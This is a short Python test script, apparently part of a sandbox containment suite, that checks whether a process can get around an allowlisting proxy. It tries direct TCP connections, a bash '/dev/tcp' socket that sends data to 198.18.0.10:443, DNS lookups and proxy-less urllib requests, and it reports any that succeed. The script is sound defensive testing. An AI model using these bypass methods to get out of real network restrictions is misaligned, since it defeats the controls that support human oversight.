#!/usr/bin/python3
# NET-06: Bypassing the proxy with direct connections (allowlist)
# Guarantee: only listed host:port destinations, and only through the proxy
# argv: N [args...]; prints ESC-<N> for anything that got through.
import os; exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "prelude.py")).read())  # corral: inline prelude.py

# --- attack ---
import os; exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "netlib.py")).read())  # corral: inline netlib.py

import urllib.request
proxy_ok("n06-proxy")
for host, port in (("198.18.0.10", 8080), ("198.18.0.10", 443), ("198.18.0.10", 22),
                   ("127.0.0.1", 8080), ("fd00:77::10", 80)):
    r = direct(host, port, f"GET /n06-direct-{N} HTTP/1.0\r\n\r\n")
    if r == "CONNECTED":
        esc(f"direct tcp {host}:{port}")
    else:
        say(f"direct {host}:{port}: {r}")
rc, out = run(f"bash -c 'exec 3<>/dev/tcp/198.18.0.10/443 && echo n06-direct-{N} >&3' && echo OPENED")
if "OPENED" in out:
    esc("bash /dev/tcp 198.18.0.10:443")
try:
    socket.getaddrinfo("allowed.test", 8080)
    esc("getaddrinfo allowed.test resolved inside")
except socket.gaierror as e:
    say(f"getaddrinfo: {e}")
try:
    o = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    o.open(f"http://198.18.0.10:8080/n06-direct-{N}", timeout=3).read()
    esc("urllib without proxy reached 198.18.0.10:8080")
except Exception as e:
    say(f"urllib without proxy: {e}")
